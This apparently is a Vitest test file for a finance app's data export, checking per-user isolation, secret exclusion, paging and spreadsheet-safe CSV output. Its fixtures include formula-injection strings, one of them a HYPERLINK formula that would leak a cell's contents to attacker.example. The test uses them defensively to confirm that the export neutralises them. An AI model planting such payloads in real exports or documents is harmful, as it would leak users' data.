/**
 * The export (GET /api/export, lib/export): two people with everything (two sandbox banks synced,
 * a subscription, a GitHub sign-in, a key, an approved app, activity, transactions whose text
 * would be a formula in a spreadsheet), each exported through the route handler with their
 * session cookie, and each file compared with the database table by table:
 * - every table holding a person's rows is either exported or named here as left out, with why;
 * - each exported table's rows of the person are the file's rows, key for key, and amounts
 *   to the minor unit; nothing of the other person, and no secret of either, is in the file;
 * - pages of any size give the same file (keys tie on dates and on timestamps that differ by a
 *   microsecond);
 * - the CSV read by a spreadsheet engine (SheetJS, which reads CSV as Excel does): UTF-8 text
 *   intact, amounts numbers, dates dates, no formula;
 * - signed out, a stale session or an unknown format reads nothing; a database cut part-way
 *   through errors the download instead of ending it (PostgreSQL, through a fault proxy).
 */
import { randomUUID } from "node:crypto";
import { eq, sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { GET } from "@/app/api/export/route";
import { type Database, openDatabase } from "@/db";
import {
  authAccounts,
  bankAccounts,
  bankConnections,
  categoryRules,
  sessions,
  subscriptions,
  toolCalls,
  transactions,
  transferCategories,
} from "@/db/schema";
import { createApiKey } from "@/lib/api-keys";
import { exportJson, exportTransactionsCsv } from "@/lib/export/files";
import { EXPORT_SECTIONS, type ExportSection } from "@/lib/export/sections";
import { minorUnits } from "@/lib/finance/currency";
import { executeRows } from "@/lib/finance/sql";
import { startFaultProxy } from "@/tests/support/fault-proxy";
import { testDatabaseKind, useTestDatabase } from "../helpers/db";
import { linkSandboxBank } from "../helpers/fixtures";
import { appUrl, createSignedInUser, obtainTokens, registerClient, type TestUser } from "../helpers/oauth";
import { addAccount, addTransactions } from "./tools-helpers";

const getDb = useTestDatabase();
const NOW = new Date("2026-03-15T12:00:00Z");

/** Descriptions a bank or a payment memo could carry, each a trap for a CSV writer or a spreadsheet. */
const TRICKY = [
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Refund")',
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1)",
  "\tTabbed",
  '"Le Petit", Café — Paris\nsecond line',
  "Bäckerei Müller €",
  "東京 コーヒー",
];

interface Person extends TestUser {
  keyId: string;
}

async function personWithEverything(db: Database): Promise<Person> {
  const person = await createSignedInUser(db);
  const { userId } = person;
  await db
    .insert(subscriptions)
    .values({ userId, provider: "local", customerId: `cus_${userId}`, status: "active" });
  await db
    .insert(authAccounts)
    .values({ userId, type: "oauth", provider: "github", providerAccountId: randomUUID() });
  await linkSandboxBank(db, userId, "ins_platypus", NOW);
  await linkSandboxBank(db, userId, "ins_houndstooth", NOW);
  const key = await createApiKey(db, userId, "export test");
  await obtainTokens(db, person, await registerClient());
  // Accounts in currencies of 0 and 3 decimals, with the tricky descriptions.
  const [platypus] = await db
    .select()
    .from(bankConnections)
    .where(eq(bankConnections.userId, userId))
    .limit(1);
  const connectionId = platypus?.id ?? "";
  const yen = await addAccount(db, userId, connectionId, {
    name: "Yen wallet",
    type: "depository",
    balance: 12345,
  });
  const dinar = await addAccount(db, userId, connectionId, {
    name: 'Dinar, "KW"',
    type: "depository",
    balance: 1,
  });
  await db.update(bankAccounts).set({ currency: "JPY" }).where(eq(bankAccounts.id, yen));
  await db.update(bankAccounts).set({ currency: "KWD" }).where(eq(bankAccounts.id, dinar));
  await addTransactions(
    db,
    userId,
    TRICKY.map((name, i) => ({
      accountId: yen,
      date: "2026-03-01",
      amountMinor: -(i + 1) * 1000,
      category: "shopping",
      name,
      merchantName: i % 2 === 0 ? name : null,
    })),
  );
  await db.update(transactions).set({ currency: "JPY" }).where(sql`${transactions.accountId} = ${yen}`);
  await addTransactions(db, userId, [
    { accountId: dinar, date: "2026-03-02", amountMinor: -1, category: "fees", name: "Fee" },
    { accountId: dinar, date: "2026-03-02", amountMinor: 123456, category: "income", name: "Salary" },
  ]);
  await db.update(transactions).set({ currency: "KWD" }).where(sql`${transactions.accountId} = ${dinar}`);
  // The person's own categories: a rule and a category counted as a transfer.
  await db.insert(categoryRules).values({ userId, field: "merchant", pattern: "Fee", category: "fees" });
  await db.insert(transferCategories).values({ userId, category: "investments" });
  // Activity whose times tie, and differ below the millisecond: pages must neither skip nor repeat.
  await executeRows(
    db,
    sql`insert into tool_calls (id, user_id, credential_kind, api_key_id, tool, status, duration_ms, created_at)
        select gen_random_uuid()::text, ${userId}, 'api_key', ${key.id}, 'list_accounts', 'ok', g,
               timestamptz '2026-03-10 10:00:00.123456+00' + (g % 3) * interval '1 microsecond'
        from generate_series(1, 7) g`,
  );
  await db.insert(toolCalls).values({
    userId,
    credentialKind: "dashboard",
    tool: "get_net_worth",
    status: "ok",
    durationMs: 4,
  });
  return { ...person, keyId: key.id };
}

async function download(cookie: string | null, format?: string): Promise<Response> {
  const url = new URL("/api/export", appUrl());
  if (format) url.searchParams.set("format", format);
  return GET(new Request(url, { headers: cookie ? { cookie } : {} }));
}

type Row = Record<string, unknown>;
type ExportFile = Record<string, unknown>;

const list = (file: ExportFile, section: string): Row[] => {
  const value = file[section];
  if (!Array.isArray(value)) throw new Error(`section ${section} is not a list`);
  return value as Row[];
};

/**
 * Every table that holds a person's rows and is exported: the query for the person's keys in the
 * database, and the same keys read from the file.
 */
const EXPORTED: Record<
  string,
  { db: (userId: string) => ReturnType<typeof sql>; file: (f: ExportFile) => string[] }
> = {
  users: {
    db: (u) => sql`select id as k from users where id = ${u}`,
    file: (f) => [String((f.profile as Row).id)],
  },
  auth_accounts: {
    db: (u) =>
      sql`select provider || ':' || provider_account_id as k from auth_accounts where user_id = ${u}`,
    file: (f) => list(f, "sign_in_accounts").map((r) => `${r.provider}:${r.provider_account_id}`),
  },
  subscriptions: {
    db: (u) => sql`select status as k from subscriptions where user_id = ${u}`,
    file: (f) => (f.subscription ? [String((f.subscription as Row).status)] : []),
  },
  api_keys: {
    db: (u) => sql`select id as k from api_keys where user_id = ${u}`,
    file: (f) => ids(f, "api_keys"),
  },
  oauth_grants: {
    db: (u) => sql`select id as k from oauth_grants where user_id = ${u}`,
    file: (f) => ids(f, "connected_apps"),
  },
  bank_connections: {
    db: (u) => sql`select id as k from bank_connections where user_id = ${u}`,
    file: (f) => ids(f, "banks"),
  },
  bank_accounts: {
    db: (u) => sql`select id as k from bank_accounts where user_id = ${u}`,
    file: (f) => ids(f, "accounts"),
  },
  transactions: {
    db: (u) => sql`select id as k from transactions where user_id = ${u}`,
    file: (f) => ids(f, "transactions"),
  },
  balance_snapshots: {
    db: (u) => sql`select account_id || ':' || date::text as k from balance_snapshots where user_id = ${u}`,
    file: (f) => list(f, "balance_history").map((r) => `${r.account_id}:${r.date}`),
  },
  holdings: {
    db: (u) => sql`select id as k from holdings where user_id = ${u}`,
    file: (f) => ids(f, "holdings"),
  },
  investment_transactions: {
    db: (u) => sql`select id as k from investment_transactions where user_id = ${u}`,
    file: (f) => ids(f, "investment_transactions"),
  },
  liabilities: {
    db: (u) => sql`select account_id as k from liabilities where user_id = ${u}`,
    file: (f) => list(f, "liabilities").map((r) => String(r.account_id)),
  },
  recurring_streams: {
    db: (u) => sql`select id as k from recurring_streams where user_id = ${u}`,
    file: (f) => ids(f, "recurring_streams"),
  },
  category_rules: {
    db: (u) => sql`select id as k from category_rules where user_id = ${u}`,
    file: (f) => ids(f, "category_rules"),
  },
  transfer_categories: {
    db: (u) => sql`select category as k from transfer_categories where user_id = ${u}`,
    file: (f) => list(f, "transfer_categories").map((r) => String(r.category)),
  },
  tool_calls: {
    db: (u) => sql`select id as k from tool_calls where user_id = ${u}`,
    file: (f) => ids(f, "activity"),
  },
};

/** Tables holding a person's rows that the export leaves out, and why. */
const LEFT_OUT: Record<string, string> = {
  sessions: "a session token is a secret",
  oauth_codes: "authorization codes are secrets (the grant is exported)",
  oauth_tokens: "token hashes stand for secrets (the grant is exported)",
  transaction_months: "computed from the transactions",
  transaction_month_totals: "computed from the transactions",
  transaction_category_months: "computed from the transactions",
  transaction_days: "computed from the transactions",
  transaction_merchant_spans: "computed from the transactions",
  transaction_text_months: "computed from the transactions",
  transaction_repeats: "computed from the transactions",
  category_typicals: "computed from the transactions",
  merchant_first_seen: "computed from the transactions",
  net_worth_days: "computed from the balance history",
};

const ids = (f: ExportFile, section: string) => list(f, section).map((r) => String(r.id));

async function keysInDatabase(db: Database, query: ReturnType<typeof sql>): Promise<string[]> {
  return (await executeRows(db, query)).map((r) => String(r.k));
}

describe("export", () => {
  let a: Person;
  let b: Person;
  const files = new Map<string, { text: string; file: ExportFile }>();

  beforeAll(async () => {
    const db = getDb();
    a = await personWithEverything(db);
    b = await personWithEverything(db);
    for (const person of [a, b]) {
      const response = await download(person.cookie);
      const text = await response.text();
      files.set(person.userId, { text, file: JSON.parse(text) as ExportFile });
    }
  }, 240_000);

  it("answers a JSON attachment that no cache keeps", async () => {
    const response = await download(a.cookie, "json");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="ledgerlink-export-\d{4}-\d{2}-\d{2}\.json"$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    await response.body?.cancel();
  });

  it("every table holding a person's rows is exported or left out for a reason", async () => {
    const tables = (
      await executeRows(
        getDb(),
        sql`select distinct table_name from information_schema.columns
            where column_name = 'user_id' and table_schema = current_schema() order by table_name`,
      )
    ).map((r) => String(r.table_name));
    const unaccounted = tables.filter((t) => !(t in EXPORTED) && !(t in LEFT_OUT));
    // A new table of the person's data: add its section to lib/export/sections.ts (and here), or
    // say here why it is not exported.
    expect(unaccounted).toEqual([]);
  });

  it("holds every row of each person, table by table, and nothing of the other", async () => {
    const db = getDb();
    for (const [person, other] of [
      [a, b],
      [b, a],
    ] as const) {
      const { file, text } = files.get(person.userId) ?? { file: {}, text: "" };
      for (const [table, keys] of Object.entries(EXPORTED)) {
        const inDatabase = await keysInDatabase(db, keys.db(person.userId));
        expect(inDatabase.length, `${table}: the fixture has rows`).toBeGreaterThan(0);
        expect(keys.file(file).sort(), table).toEqual(inDatabase.sort());
      }
      // No id, email or key of the other person appears anywhere in the file.
      const theirs = [other.email, other.userId, other.keyId];
      for (const [table, keys] of Object.entries(EXPORTED)) {
        // Statuses, sign-in providers and category names are shared words, not ids.
        if (table === "subscriptions" || table === "auth_accounts" || table === "transfer_categories")
          continue;
        theirs.push(...(await keysInDatabase(db, keys.db(other.userId))).map((k) => k.split(":")[0] ?? k));
      }
      expect(theirs.filter((id) => text.includes(id))).toEqual([]);
    }
  });

  it("writes no secret: no key hash or preview, session, token, code or bank access token", async () => {
    const db = getDb();
    const { text } = files.get(a.userId) ?? { text: "" };
    const secrets = (
      await executeRows(
        db,
        sql`select key_hash as s from api_keys where user_id = ${a.userId}
            union all select preview from api_keys where user_id = ${a.userId}
            union all select session_token from sessions where user_id = ${a.userId}
            union all select token_hash from oauth_tokens where user_id = ${a.userId}
            union all select code_hash from oauth_codes where user_id = ${a.userId}
            union all select access_token_ciphertext from bank_connections where user_id = ${a.userId}
            union all select sync_cursor from bank_connections where user_id = ${a.userId} and sync_cursor is not null`,
      )
    ).map((r) => String(r.s));
    expect(secrets.length).toBeGreaterThan(5);
    expect(secrets.filter((s) => text.includes(s))).toEqual([]);
  });

  it("gives transactions and balances to the minor unit of their currency", async () => {
    const db = getDb();
    const { file } = files.get(a.userId) ?? { file: {} };
    const rows = await db.select().from(transactions).where(eq(transactions.userId, a.userId));
    const byId = new Map(list(file, "transactions").map((r) => [String(r.id), r]));
    expect(rows.some((r) => r.currency === "JPY") && rows.some((r) => r.currency === "KWD")).toBe(true);
    for (const row of rows) {
      const out = byId.get(row.id);
      expect(out, row.id).toBeDefined();
      const scale = 10 ** minorUnits(row.currency);
      expect(Math.round(Number(out?.amount) * scale), row.id).toBe(row.amountMinor);
      expect(out).toMatchObject({
        account_id: row.accountId,
        date: row.date,
        description: row.name,
        merchant_name: row.merchantName,
        currency: row.currency,
        category: row.category,
        pending: row.pending,
        is_transfer: row.isTransfer,
      });
    }
    const accounts = await db.select().from(bankAccounts).where(eq(bankAccounts.userId, a.userId));
    const accountsOut = new Map(list(file, "accounts").map((r) => [String(r.id), r]));
    for (const account of accounts) {
      const out = accountsOut.get(account.id);
      const scale = 10 ** minorUnits(account.currency);
      expect(out?.currency).toBe(account.currency);
      expect(out?.current_balance === null ? null : Math.round(Number(out?.current_balance) * scale)).toBe(
        account.currentBalanceMinor,
      );
    }
  });

  it("pages of any size give the same file (ties on dates and below the millisecond included)", async () => {
    const db = getDb();
    const whole = async (pageRows: number, sections?: ExportSection[]) => {
      let text = "";
      for await (const chunk of exportJson(db, a.userId, { now: NOW, pageRows, sections })) text += chunk;
      return text;
    };
    // Pages of 13 rows end inside days of several transactions and snapshots.
    const big = await whole(100_000);
    expect(await whole(13)).toBe(big);
    // The activity's times tie three ways, and differ by a microsecond: pages of 2 and 3 cross both.
    const activity = EXPORT_SECTIONS.filter((s) => s.name === "activity");
    const activityWhole = await whole(100_000, activity);
    expect(await whole(2, activity)).toBe(activityWhole);
    expect(await whole(3, activity)).toBe(activityWhole);
    const rows = list(JSON.parse(activityWhole) as ExportFile, "activity");
    expect(new Set(rows.map((r) => r.id)).size).toBe(rows.length);
    expect(rows.length).toBe(8);
    let csv = "";
    for await (const chunk of exportTransactionsCsv(db, a.userId, { pageRows: 13 })) csv += chunk;
    let csvWhole = "";
    for await (const chunk of exportTransactionsCsv(db, a.userId)) csvWhole += chunk;
    expect(csv).toBe(csvWhole);
  });

  it("the CSV opens in a spreadsheet: text intact, numbers and dates typed, no formula", async () => {
    const db = getDb();
    const response = await download(a.cookie, "csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="ledgerlink-transactions-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    const bytes = Buffer.from(await response.arrayBuffer());
    // RFC 4180: CRLF line ends; a UTF-8 byte order mark first (see lib/export/files.ts).
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString("utf8").split("\r\n")[0]).toBe(
      "\uFEFFDate,Description,Merchant,Amount,Currency,Category,Account,Bank,Pending,Transfer,Transaction ID,Account ID",
    );

    const sheet = XLSX.read(bytes, { type: "buffer" }).Sheets.Sheet1;
    if (!sheet) throw new Error("no sheet");
    const cells = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true });
    const header = cells[0] as string[];
    expect(header[0]).toBe("Date");
    const formulas = Object.entries(sheet).filter(
      ([, cell]) => typeof cell === "object" && cell && "f" in cell,
    );
    expect(formulas).toEqual([]);

    const rows = await db
      .select({ t: transactions, account: bankAccounts.name })
      .from(transactions)
      .innerJoin(bankAccounts, eq(bankAccounts.id, transactions.accountId))
      .where(eq(transactions.userId, a.userId));
    expect(cells.length - 1).toBe(rows.length);
    const col = (name: string) => header.indexOf(name);
    const byId = new Map(cells.slice(1).map((c) => [String(c[col("Transaction ID")]), c]));
    /** What a spreadsheet shows for a text cell: an apostrophe before a formula start (OWASP). */
    const shown = (text: string | null) =>
      text === null ? undefined : /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
    for (const { t, account } of rows) {
      const c = byId.get(t.id);
      expect(c, t.id).toBeDefined();
      if (!c) continue;
      // A date cell: the spreadsheet's day number for the ISO date.
      const day = XLSX.SSF.parse_date_code(Number(c[col("Date")]));
      expect(`${day.y}-${String(day.m).padStart(2, "0")}-${String(day.d).padStart(2, "0")}`).toBe(t.date);
      expect(c[col("Amount")]).toBe(t.amountMinor / 10 ** minorUnits(t.currency));
      expect(c[col("Currency")]).toBe(t.currency);
      expect(c[col("Description")]).toBe(shown(t.name));
      expect(c[col("Merchant")]).toBe(shown(t.merchantName));
      expect(c[col("Account")]).toBe(account);
      expect(c[col("Pending")]).toBe(t.pending);
      expect(c[col("Transfer")]).toBe(t.isTransfer);
    }
    // The traps came through as text, as written.
    for (const name of TRICKY)
      expect([...byId.values()].some((c) => c[col("Description")] === shown(name))).toBe(true);
  });

  it("signed out, with a session that ended, or for an unknown format: no data", async () => {
    const db = getDb();
    for (const cookie of [null, "authjs.session-token=not-a-session"]) {
      const response = await download(cookie, "json");
      expect(response.status).toBe(303);
      expect(response.headers.get("location")).toBe(
        `${appUrl()}/sign-in?callbackUrl=${encodeURIComponent("/dashboard/settings")}`,
      );
      expect(await response.text()).toBe("");
    }
    const ended = await createSignedInUser(db);
    await db
      .update(sessions)
      .set({ expires: new Date(Date.now() - 1000) })
      .where(eq(sessions.userId, ended.userId));
    expect((await download(ended.cookie, "csv")).status).toBe(303);
    const wrong = await download(a.cookie, "xlsx");
    expect(wrong.status).toBe(400);
    expect(((await wrong.json()) as { message: string }).message).toContain('not "xlsx"');
  });
});

describe.skipIf(testDatabaseKind() !== "postgres")("export when the database goes away part-way", () => {
  it("errors the download: the file never ends as if it were whole", async () => {
    const proxy = await startFaultProxy(process.env.TEST_DATABASE_URL ?? "");
    const handle = await openDatabase({ url: proxy.url, driver: "pg", migrate: false });
    try {
      const db = handle.db;
      const person = await createSignedInUser(db);
      await linkSandboxBank(db, person.userId, "ins_platypus", NOW);
      const chunks = exportTransactionsCsv(db, person.userId, { pageRows: 50 });
      const { streamedDownload } = await import("@/lib/export/response");
      const reader = streamedDownload(chunks, { name: "t.csv", type: "text/csv" }).body?.getReader();
      if (!reader) throw new Error("no body");
      await reader.read(); // the header
      await reader.read(); // a first page
      proxy.drop();
      proxy.freeze();
      let ended = false;
      const failed = await (async () => {
        try {
          for (;;) {
            const { done } = await reader.read();
            if (done) {
              ended = true;
              return false;
            }
          }
        } catch {
          return true;
        }
      })();
      expect({ failed, ended }).toEqual({ failed: true, ended: false });
    } finally {
      proxy.heal();
      await handle.close();
      await proxy.close();
    }
  }, 60_000);
});
